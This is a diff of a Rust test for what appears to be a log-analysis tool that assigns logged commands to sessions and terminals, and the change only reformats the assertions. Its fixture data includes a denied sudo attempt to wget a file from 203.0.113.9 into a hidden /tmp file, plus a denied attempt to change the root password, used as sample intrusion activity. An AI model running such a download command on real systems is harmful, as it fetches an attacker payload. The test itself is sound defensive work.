@@ -75,14 +75,21 @@ fn lines_out_of_time_order_go_to_the_session_open_at_their_time() {
     let (first, first_commands) = commands_of(&obs, "2001");
     assert_eq!(
         first_commands,
-        ["/usr/bin/apt-get update", "sudo(denied: user NOT in sudoers) /usr/bin/passwd root", "/bin/systemctl restart nginx"]
+        [
+            "/usr/bin/apt-get update",
+            "sudo(denied: user NOT in sudoers) /usr/bin/passwd root",
+            "/bin/systemctl restart nginx"
+        ]
     );
     assert_eq!(tty(first), Some("pts/0"));
     // pts/1 at 09:35: 2001 is on pts/0, so the other session open then, whose terminal
     // was not known, is on pts/1. The 09:45 line has no terminal and both were open:
     // nothing tells them apart, so it goes to the newest and is counted as a guess.
     let (second, second_commands) = commands_of(&obs, "2050");
-    assert_eq!(second_commands, ["sudo(denied: command not allowed) /usr/bin/wget http://203.0.113.9/x -O /tmp/.x", "/usr/bin/id"]);
+    assert_eq!(
+        second_commands,
+        ["sudo(denied: command not allowed) /usr/bin/wget http://203.0.113.9/x -O /tmp/.x", "/usr/bin/id"]
+    );
     assert_eq!(tty(second), Some("pts/1"));
     assert_eq!((stats.commands, stats.commands_by_tty, stats.commands_guessed), (5, 3, 1));
     assert_eq!(stats.privilege_refusals, 2);
